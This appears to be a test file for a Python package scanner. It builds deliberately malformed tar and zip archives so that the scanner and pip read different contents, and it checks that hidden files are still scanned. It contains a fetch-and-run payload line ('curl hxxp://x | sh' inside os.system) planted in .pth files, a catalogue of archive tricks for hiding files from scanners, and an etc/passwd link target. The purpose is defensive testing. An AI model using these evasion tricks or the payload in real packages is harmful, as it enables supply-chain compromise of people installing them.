/**
 * Archives built to make the scanner and the installer read different things. pip installs wheels with Python's
 * zipfile and unpacks sdists with Python's tarfile; whatever those extract must be scanned. The tar cases are checked
 * against Python's tarfile itself.
 */
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import zlib from 'node:zlib';
import { scanArtifact } from '../../src/scan.js';
import { defaultOptions, type Limits } from '../../src/options.js';
import { readTar } from '../../src/archive/tar.js';
import { readZipDirectory } from '../../src/archive/zip.js';
import type { ArtifactReport } from '../../src/types.js';
import { buildTar, buildWheel, buildZip, gzip, octal, tarHeader } from '../helpers/archive.js';
import { fakeELF } from '../helpers/payloads.js';

async function scan(file: string, data: Uint8Array, limits: Partial<Limits> = {}): Promise<ArtifactReport> {
  return scanArtifact({ file, path: file, data }, defaultOptions({ limits }));
}
const rules = (r: ArtifactReport) => [...new Set(r.findings.map((f) => f.rule))].sort();
const paths = (r: ArtifactReport, rule: string) => r.findings.filter((f) => f.rule === rule).map((f) => f.path);

// ---- raw tar blocks, as no archiver writes them ----

/** One header block; `size` is written as is (it may lie), `type` is any type flag. */
const header = (name: string, size: number, type: string, opts: { linkname?: string; magic?: boolean } = {}): Buffer =>
  tarHeader(name, size, type, { ...opts, encoding: 'latin1' });
const pad = (b: Buffer | string): Buffer => {
  const x = Buffer.from(b);
  return Buffer.concat([x, Buffer.alloc((512 - (x.length % 512)) % 512)]);
};
function paxRecord(k: string, v: string): string {
  const body = ` ${k}=${v}\n`;
  let len = body.length + 2;
  while (String(len).length + body.length !== len) len = String(len).length + body.length;
  return `${len}${body}`;
}
const file = (name: string, data: string | Uint8Array): Buffer[] => [header(name, Buffer.from(data).length, '0'), pad(Buffer.from(data))];
const END = Buffer.alloc(1024);
const tar = (...parts: Array<Buffer | Buffer[]>): Uint8Array => new Uint8Array(Buffer.concat(parts.flat()));

/** What Python's tarfile extracts as files: [name, sha256 of the content]. */
function pythonFiles(d: Uint8Array): Array<[string, string]> {
  const script = `
import sys, tarfile, io, hashlib, json
out = []
try:
    with tarfile.open(fileobj=io.BytesIO(sys.stdin.buffer.read()), mode="r:", encoding="utf-8") as t:
        for m in t:
            if m.isreg() or m.type not in tarfile.SUPPORTED_TYPES:
                f = t.extractfile(m)
                out.append([m.name, hashlib.sha256(f.read()).hexdigest()])
except Exception:
    pass
print(json.dumps(out))`;
  return JSON.parse(execFileSync('python3', ['-c', script], { input: d }).toString());
}
const sha = (d: Uint8Array) => createHash('sha256').update(d).digest('hex');

/** Every file Python extracts must be among the files read here, with the same content. */
function expectCovers(d: Uint8Array): Array<[string, string]> {
  const py = pythonFiles(d);
  const ours = readTar(d, 1000, 1 << 30).entries.filter((e) => e.type === 'file').map((e) => [e.path, sha(e.data)]);
  for (const f of py) expect(ours).toContainEqual(f);
  return py;
}

const EVIL = 'import os; os.system("curl hxxp://x | sh")\n';

describe('tar read as Python reads it', () => {
  test('a directory header with a size: Python reads the "data" as the next headers, node-tar skips it', async () => {
    const hidden = Buffer.concat(file('p-1.0/evil.pth', EVIL));
    const d = tar(file('p-1.0/PKG-INFO', 'Name: p\n'), header('p-1.0/dir/', hidden.length, '5'), hidden, END);
    const py = expectCovers(d);
    expect(py.map((f) => f[0])).toContain('p-1.0/evil.pth');
    const r = await scan('p-1.0.tar.gz', gzip(d));
    expect(r.stats.files).toBe(2);
    expect(r.findings.some((f) => f.path === 'p-1.0/evil.pth')).toBe(true);
  });

  test('links, devices and FIFOs with a size are not skipped either', () => {
    for (const t of ['1', '2', '3', '4', '6']) {
      const hidden = Buffer.concat(file('p/hidden.py', EVIL));
      const d = tar(header('p/l', hidden.length, t, { linkname: 'p/x' }), hidden, END);
      expect(expectCovers(d).map((f) => f[0])).toEqual(['p/hidden.py']);
    }
  });

  test('unknown type flags (and GNU dump directories) are regular files to Python', async () => {
    for (const t of ['D', 'Z', 'A', 'V', 'M', '9']) {
      const d = tar(header('p-1.0/payload.py', EVIL.length, t), pad(EVIL), END);
      expect(expectCovers(d)).toEqual([['p-1.0/payload.py', sha(Buffer.from(EVIL))]]);
    }
    const r = await scan('p-1.0.tar', tar(header('p-1.0/x.wav', fakeELF().length, 'Z'), pad(Buffer.from(fakeELF())), END));
    expect(rules(r)).toContain('type.disguised-executable');
  });

  test('a global pax size changes what Python reads but not where it looks next', () => {
    const g = pad(paxRecord('size', '1536'));
    const d = tar(header('pax_global_header', Buffer.byteLength(paxRecord('size', '1536')), 'g'), g, file('a.txt', 'aaaa'), file('b.py', EVIL), END);
    expectCovers(d);
  });

  test('an extended header lying about the size: the pax size wins, as in Python', () => {
    const rec = paxRecord('size', '0');
    const d = tar(header('PaxHeader', rec.length, 'x'), pad(rec), header('a.txt', 1024, '0'), file('b.py', EVIL), END);
    const py = expectCovers(d);
    expect(py.map((f) => f[0])).toEqual(['a.txt', 'b.py']);
  });

  test('two long names before one header: the first one wins', () => {
    const d = tar(header('././@LongLink', 6, 'L'), pad('first\0'), header('././@LongLink', 7, 'L'), pad('second\0'), file('short', EVIL), END);
    expect(expectCovers(d)).toEqual([['first', sha(Buffer.from(EVIL))]]);
  });

  test('an old GNU sparse member: its stored data is scanned', () => {
    const h = header('p/sparse.py', EVIL.length, 'S');
    const d = tar(h, pad(EVIL), END);
    const e = readTar(d, 10, 1 << 20);
    expect(e.entries[0]).toMatchObject({ path: 'p/sparse.py', type: 'file' });
    expect(Buffer.from(e.entries[0].data).toString()).toBe(EVIL);
    expect(e.notes.join()).toMatch(/sparse/);
  });

  test('a tar whose first name starts like a zip, with a zip after it, is read as both', async () => {
    const z = Buffer.from(buildZip([{ name: 'decoy.txt', data: 'nothing here' }]));
    const d = tar(file('PK\x03\x04evil.pth', EVIL), header('decoy.zip', z.length, '0'), pad(z), END);
    expect(pythonFiles(d).map((f) => f[0])).toEqual(['PK\x03\x04evil.pth', 'decoy.zip']);
    const r = await scan('p-1.0.tar.gz', gzip(d));
    expect(r.findings.some((f) => f.path === 'PK\x03\x04evil.pth')).toBe(true);
  });

  test('ordinary tars: the same members as before, no notes, and Python agrees', () => {
    const d = buildTar([{ name: 'x-1.0/PKG-INFO', data: 'Name: x\n' }, { name: 'x-1.0/' + 'd/'.repeat(60) + 'long.py', data: EVIL }, { name: 'x-1.0/l', type: '2', linkname: 'PKG-INFO' }]);
    const r = readTar(d, 10, 1 << 20);
    expect(r.problems).toEqual([]);
    expect(r.notes).toEqual([]);
    expect(r.entries.map((e) => e.type)).toEqual(['file', 'file', 'symlink']);
    expectCovers(d);
  });

  test('a truncated tar and a negative size are incomplete, not a crash', () => {
    const d = tar(file('a.py', EVIL.repeat(10)), END);
    expect(readTar(d.subarray(0, 700), 10, 1 << 20).problems.length).toBeGreaterThan(0);
    const neg = header('n', 0, '0');
    neg.fill(0, 124, 136);
    neg[124] = 0xff;
    neg.fill(0xff, 125, 136);
    neg.write('        ', 148, 'latin1');
    let sum = 0;
    for (const b of neg) sum += b;
    neg.write(octal(sum, 7) + ' ', 148, 'latin1');
    expect(readTar(tar(neg, END), 10, 1 << 20).problems.join()).toMatch(/negative size/);
  });
});

describe('zip read as Python reads it', () => {
  test('an entry past the declared count, inside the declared directory size, is read', async () => {
    const z = Buffer.from(buildWheel('w', '1', { 'w/__init__.py': 'x = 1\n' }, { extra: [{ name: 'w/evil.pth', data: EVIL }] }));
    const eocd = z.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
    const n = z.readUInt16LE(eocd + 10);
    z.writeUInt16LE(n - 1, eocd + 8);
    z.writeUInt16LE(n - 1, eocd + 10);
    const names = execFileSync('python3', ['-c', 'import zipfile,sys,io; print("\\n".join(zipfile.ZipFile(io.BytesIO(sys.stdin.buffer.read())).namelist()))'], { input: z }).toString();
    expect(names).toMatch(/w\/evil\.pth/);
    const r = await scan('w-1-py3-none-any.whl', new Uint8Array(z));
    expect(r.findings.some((f) => f.path === 'w/evil.pth' && f.rule.startsWith('code.'))).toBe(true);
    expect(rules(r)).toContain('archive.header-mismatch');
  });

  test('entries whose Unix mode says symlink, directory or device are installed as files by pip: scanned', async () => {
    const elf = fakeELF();
    for (const mode of [0o120777, 0o040755, 0o020644, 0o010644, 0o140755]) {
      const r = await scan('m-1.0.zip', buildZip([{ name: 'm/ring.wav', data: elf, unixMode: mode }]));
      expect(paths(r, 'type.disguised-executable')).toEqual(['m/ring.wav']);
    }
    // a real link still gets its own finding
    const l = await scan('l-1.0.zip', buildZip([{ name: 'l/out', data: '../../../etc/passwd', unixMode: 0o120777 }]));
    expect(rules(l)).toContain('archive.link-outside');
  });

  test('a directory entry (name ending in /) with content is scanned; an empty one is not a member', async () => {
    const r = await scan('d-1.0.zip', buildZip([{ name: 'd/', data: '' }, { name: 'd/x.wav/', data: fakeELF() }]));
    expect(r.stats.files).toBe(1);
    expect(r.stats.bytes).toBe(fakeELF().length);
  });

  test('a NUL in a name: Python installs the name cut at the NUL, and that is the name analysed', async () => {
    const r = await scan('n-1.0.zip', buildZip([{ name: 'n/evil.pth\0.txt', data: EVIL }]));
    expect(r.findings.some((f) => f.path === 'n/evil.pth' && f.rule.startsWith('code.'))).toBe(true);
    expect(r.findings.some((f) => f.rule === 'archive.corrupt' && /NUL/.test(f.message))).toBe(true);
  });

  test('data running past the end of the file is incomplete, not a short member scanned as whole', async () => {
    const z = Buffer.from(buildZip([{ name: 'a.txt', data: 'x'.repeat(100), method: 0 }]));
    const cd = z.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
    z.writeUInt32LE(1_000_000, cd + 20);
    const r = await scan('t-1.0.zip', new Uint8Array(z));
    expect(r.status).toBe('incomplete');
    expect(r.reasons.join()).toMatch(/past the end/);
  });

  test('the last EOCD signature is the directory, as in Python, even when its comment length overruns', async () => {
    const decoy = Buffer.from(buildZip([{ name: 'decoy.txt', data: 'nothing' }]));
    const evil = Buffer.from(buildZip([{ name: 'evil.pth', data: EVIL }]));
    evil.writeUInt16LE(100, evil.length - 2); // a comment length with no comment after it
    const z = Buffer.concat([decoy, evil]);
    const names = execFileSync('python3', ['-c', 'import zipfile,sys,io; print(zipfile.ZipFile(io.BytesIO(sys.stdin.buffer.read())).namelist())'], { input: z }).toString();
    expect(names).toMatch(/evil\.pth/);
    const r = await scan('e-1.0.zip', new Uint8Array(z));
    expect(r.findings.some((f) => f.path === 'evil.pth' && f.rule.startsWith('code.'))).toBe(true);
  });

  test('a gzip sdist with a zip after it: pip unzips it, so the zip is scanned too', async () => {
    const sd = Buffer.from(gzip(buildTar([{ name: 'x-1.0/PKG-INFO', data: 'Name: x\n' }])));
    const z = Buffer.from(buildZip([{ name: 'x-1.0/evil.pth', data: EVIL }]));
    const both = Buffer.concat([sd, z]);
    // fix the zip's offsets for the bytes before it
    const eocd = both.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
    both.writeUInt32LE(both.readUInt32LE(eocd + 16) + sd.length, eocd + 16);
    const cd = both.readUInt32LE(eocd + 16);
    both.writeUInt32LE(both.readUInt32LE(cd + 42) + sd.length, cd + 42);
    const r = await scan('x-1.0.tar.gz', new Uint8Array(both));
    expect(r.findings.some((f) => f.path === 'x-1.0/evil.pth' && f.rule.startsWith('code.'))).toBe(true);
  });

  test('the coverage check knows the longer data descriptor of zip64 streaming entries (no false gap)', () => {
    // a stored entry with bit 3 and a 24-byte zip64 descriptor, followed by the central directory
    const data = Buffer.from('hello');
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(45, 4);
    local.writeUInt16LE(8, 6);
    local.writeUInt16LE(1, 26);
    const crc = zlib.crc32(data) >>> 0;
    const dd = Buffer.alloc(24);
    dd.writeUInt32LE(0x08074b50, 0);
    dd.writeUInt32LE(crc, 4);
    dd.writeBigUInt64LE(5n, 8);
    dd.writeBigUInt64LE(5n, 16);
    const body = Buffer.concat([local, Buffer.from('a'), data, dd]);
    const c = Buffer.alloc(46);
    c.writeUInt32LE(0x02014b50, 0);
    c.writeUInt16LE(45, 6);
    c.writeUInt16LE(8, 8);
    c.writeUInt32LE(crc, 16);
    c.writeUInt32LE(5, 20);
    c.writeUInt32LE(5, 24);
    c.writeUInt16LE(1, 28);
    const cdir = Buffer.concat([c, Buffer.from('a')]);
    const e = Buffer.alloc(22);
    e.writeUInt32LE(0x06054b50, 0);
    e.writeUInt16LE(1, 8);
    e.writeUInt16LE(1, 10);
    e.writeUInt32LE(cdir.length, 12);
    e.writeUInt32LE(body.length, 16);
    const dir = readZipDirectory(new Uint8Array(Buffer.concat([body, cdir, e])), 10);
    expect(dir.gaps).toEqual([]);
  });
});
